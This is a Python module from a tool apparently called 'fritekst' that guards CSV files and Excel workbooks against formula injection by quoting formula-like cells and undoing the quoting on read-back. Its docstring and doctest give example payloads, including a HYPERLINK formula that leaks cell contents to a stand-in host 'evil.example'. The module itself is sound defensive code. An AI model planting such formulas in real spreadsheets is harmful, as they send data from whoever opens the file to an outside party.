"""Text bound for a spreadsheet never becomes a formula (CSV and formula injection).

Excel and LibreOffice take a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return) for a formula when they open ``assignments.csv`` or a report workbook: an answer
``=HYPERLINK("http://…?leak="&A2,"x")`` sends other cells away at a click, and a role ``=1+1``
used as a column heading makes Excel repair the file. Every text cell fritekst writes for a
spreadsheet passes through here.

In a CSV such a cell gets a single quote in front, OWASP's rule. A cell that is only a number
("-12", "+47", "-1,5") or only a sign ("-", the commonest non-answer) is left alone: a
spreadsheet reads it as a number or as text, never as a formula. A cell that already starts
with quotes before a formula start gets one more, so :func:`restore` gives back exactly what
was written; fritekst reads its own files back through it (``load_run``, ``--coded``).

In a workbook the cell is written as text with Excel's own quote prefix (what typing '=… in
Excel gives) instead: the reader sees the answer as written, and editing the cell keeps it text.

>>> neutral('=HYPERLINK("http://evil.example","x")')
'\\'=HYPERLINK("http://evil.example","x")'
>>> neutral("-"), neutral("-12"), neutral(-12)
('-', '-12', -12)
"""

from __future__ import annotations

import re
from collections.abc import Iterable

import pandas as pd

from fritekst.xml_text import map_text, xml_text

__all__ = ["FORMULA_STARTS", "append_row", "formula_like", "neutral", "neutral_table", "restore",
           "restored_table", "sheet_title"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN = re.compile(r"[-+]?(\d+([.,]\d+)*)?")  # a number, or a sign alone
_SHEET_FORBIDDEN = "[]:*?/\\"
SHEET_TITLE_MAX = 31


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_STARTS) and not _PLAIN.fullmatch(text)


def neutral(value):
    """``value`` for a CSV cell: text a spreadsheet would take for a formula gets a leading
    quote; numbers, missing values and other text are returned as they are."""
    if isinstance(value, str) and formula_like(value.lstrip("'")):
        return "'" + value
    return value


def restore(value):
    """The value :func:`neutral` was given, from what it returned."""
    if isinstance(value, str) and value.startswith("'") and formula_like(value.lstrip("'")):
        return value[1:]
    return value


def neutral_table(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` ready for ``to_csv``: :func:`neutral` on its column names and text cells;
    number columns are untouched, so ``theme_id`` −1 stays a number."""
    return map_text(frame, neutral)


def restored_table(frame: pd.DataFrame) -> pd.DataFrame:
    """A table read from a CSV fritekst wrote, with :func:`restore` on its names and text cells."""
    return map_text(frame, restore)


def append_row(sheet, values: Iterable) -> None:
    """Append ``values`` as a row of an openpyxl worksheet, every string as text: a formula-like
    one is stored as a string cell with the quote prefix (openpyxl would write it as a formula),
    and characters XML cannot hold are dropped."""
    values = [xml_text(v) if isinstance(v, str) else v for v in values]
    sheet.append(values)
    if not values:
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def sheet_title(name: str, taken: set[str]) -> str:
    """A sheet name Excel accepts and ``taken`` (lower-case names, updated) does not hold yet:
    at most 31 characters, none of ``[]:*?/\\`` or control characters, not starting or ending
    with a quote, not the reserved "History"; an empty name becomes "Ark"."""
    name = "".join(" " if c in _SHEET_FORBIDDEN else c for c in xml_text(name))
    name = " ".join(name.split())[:SHEET_TITLE_MAX].strip(" '") or "Ark"
    candidate, n = name, 2
    while candidate.lower() in taken or candidate.lower() == "history":
        suffix = f" {n}"
        candidate = name[:SHEET_TITLE_MAX - len(suffix)].rstrip(" '") + suffix
        n += 1
    taken.add(candidate.lower())
    return candidate
